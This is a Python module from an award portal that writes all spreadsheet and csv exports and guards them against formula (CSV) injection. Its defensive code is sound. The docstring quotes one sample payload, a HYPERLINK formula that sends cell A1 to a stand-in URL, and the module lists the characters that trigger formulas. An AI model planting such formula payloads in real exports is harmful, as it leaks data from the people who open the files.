"""Every spreadsheet the portal writes is built here, so that what people typed stays text.

An organization may call itself ``=HYPERLINK("http://x?"&A1,"点击核对")``. Written as it is,
Excel would run it as a formula in the office's export (OWASP: CSV injection). The rules:

- xlsx: every string goes into a string cell (data type "s", an inline string). Excel and
  LibreOffice show a string cell as stored and never evaluate it, so the value is kept exact:
  no apostrophe is added, and "=1+1" reads back as "=1+1". Numbers, dates and booleans stay
  what they are (a negative number is a number, not text). Characters an xlsx file cannot hold
  at all (C0 controls other than tab, line feed and carriage return) are dropped, as openpyxl
  would refuse the whole workbook otherwise.
- csv: a file has no cell types, so a text value that starts with "=", "+", "-", "@", a tab or
  a carriage return is prefixed with a single quote, as OWASP advises; spreadsheets then show
  it as text. Numbers are written as numbers.

Exports build their workbooks with `workbook()`, write every row with `append()` (or a cell
with `cell()`) and read the file with `to_bytes()`; csv files go through `csv_writer()`.

Two layouts are shared. A plain table (the review's scores, the statistics, the plaque list,
the expert list template) has a bold header row, frozen below it, set with `header_row()`. A
list for print (the lists of stages 2 and 3) is a streamed sheet from `list_sheet()`: a title
over the columns in 黑体, the export time, a shaded header row in 宋体, its body written through
`ListRows`, which also sets the auto filter; `write_list()` does both for a sheet whose rows
are at hand.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from datetime import datetime
from typing import Any

from django.utils import timezone
from django.utils.functional import Promise
from django.utils.translation import gettext as _
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.utils import get_column_letter
from openpyxl.worksheet._write_only import WriteOnlyWorksheet
from openpyxl.worksheet.cell_range import CellRange

from award_portal.documents.fonts import HEI, SONG

# What makes a spreadsheet read a typed value as a formula (OWASP, CSV injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# The print layout of a list
TITLE_FONT = Font(name=HEI, size=14, bold=True)
HEADER_FONT = Font(name=SONG, bold=True)
HEADER_FILL = PatternFill("solid", fgColor="F2DCDB")
HEADER_ALIGNMENT = Alignment(horizontal="center", vertical="center", wrap_text=True)
BODY_FONT = Font(name=SONG)
BODY_ALIGNMENT = Alignment(vertical="top", wrap_text=True)


def workbook(*, write_only: bool = False) -> Workbook:
    return Workbook(write_only=write_only)


def text(value: Any) -> Any:
    """The value as a cell holds it: text as a plain str without what xlsx cannot carry."""
    if isinstance(value, Promise):
        value = str(value)
    if isinstance(value, str):
        return ILLEGAL_CHARACTERS_RE.sub("", value)
    return value


def cell(ws, value: Any, **style) -> Cell:
    """One cell for `ws` (a streamed or an ordinary sheet): a string is always a string cell,
    never a formula or an error code."""
    value = text(value)
    result = WriteOnlyCell(ws, value=value)
    if isinstance(value, str):
        result.data_type = "s"
    for name, item in style.items():
        setattr(result, name, item)
    return result


def append(ws, values: Iterable[Any]) -> None:
    """Add a row to `ws`; values that are already cells (styled ones) are kept as they are."""
    ws.append([v if isinstance(v, Cell) else cell(ws, v) for v in values])


def to_bytes(wb: Workbook) -> bytes:
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def csv_value(value: Any) -> Any:
    """A value for a csv file: text that a spreadsheet would take for a formula is quoted."""
    if isinstance(value, Promise):
        value = str(value)
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class _CsvWriter:
    def __init__(self, stream, **kwargs):
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, values: Iterable[Any]):
        return self._writer.writerow([csv_value(v) for v in values])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream, **kwargs) -> _CsvWriter:
    """`csv.writer` whose every value goes through `csv_value`."""
    return _CsvWriter(stream, **kwargs)


# --- layouts ------------------------------------------------------------------------------------


def header_row(sheet, *, widths: Sequence[float] = (), freeze: bool = True) -> None:
    """A plain table's header: the first row bold, the rows below it scrolling under it
    (`freeze`), and the first columns as wide as `widths`."""
    for header in sheet[1]:
        header.font = Font(bold=True)
    for index, width in enumerate(widths, start=1):
        sheet.column_dimensions[get_column_letter(index)].width = width
    if freeze:
        sheet.freeze_panes = "A2"


def list_sheet(
    wb: Workbook, *, title: str, heading: str, headers: Sequence[str], widths: Sequence[int]
) -> WriteOnlyWorksheet:
    """A streamed sheet laid out for print: the heading merged over the columns, the export
    time, the styled header row; column widths and frozen panes go first, as a streamed sheet
    needs."""
    headers = [str(h) for h in headers]
    ws = wb.create_sheet(title=title[:31])
    for index, width in enumerate(widths, start=1):
        ws.column_dimensions[get_column_letter(index)].width = width
    ws.freeze_panes = "A4"
    ws.merged_cells.add(CellRange(min_col=1, min_row=1, max_col=len(headers), max_row=1))
    append(ws, [cell(ws, heading, font=TITLE_FONT)])
    append(ws, [_("导出时间：%(at)s") % {"at": local_time(timezone.now())}])
    append(
        ws,
        [
            cell(ws, h, font=HEADER_FONT, fill=HEADER_FILL, alignment=HEADER_ALIGNMENT)
            for h in headers
        ],
    )
    return ws


def local_time(value: datetime | None) -> str:
    """A moment as a list shows it: local time to the minute."""
    return timezone.localtime(value).strftime("%Y-%m-%d %H:%M") if value else ""


class ListRows:
    """Writes the body rows of a `list_sheet`, every cell in the one body style: the style
    is registered with the workbook once and its array shared by every cell (hashing a Font
    and an Alignment per cell costs seconds at 2,000 rows)."""

    def __init__(self, ws: WriteOnlyWorksheet, columns: int):
        self.ws = ws
        self.columns = columns
        self.rows = 0
        self.style = cell(ws, None, font=BODY_FONT, alignment=BODY_ALIGNMENT)._style

    def append(self, values: Sequence) -> None:
        cells: list[Cell] = []
        for value in values:
            body = cell(self.ws, value)
            body._style = self.style
            cells.append(body)
        append(self.ws, cells)
        self.rows += 1

    def finish(self) -> None:
        if self.rows:
            last = get_column_letter(self.columns)
            self.ws.auto_filter.ref = f"A3:{last}{3 + self.rows}"


def write_list(
    wb: Workbook,
    *,
    title: str,
    heading: str,
    headers: Sequence[str],
    widths: Sequence[int],
    rows: Iterable[Sequence],
) -> None:
    """A whole `list_sheet`: its heading and headers, then `rows` written through `ListRows`."""
    body = ListRows(
        list_sheet(wb, title=title, heading=heading, headers=headers, widths=widths), len(headers)
    )
    for values in rows:
        body.append(values)
    body.finish()
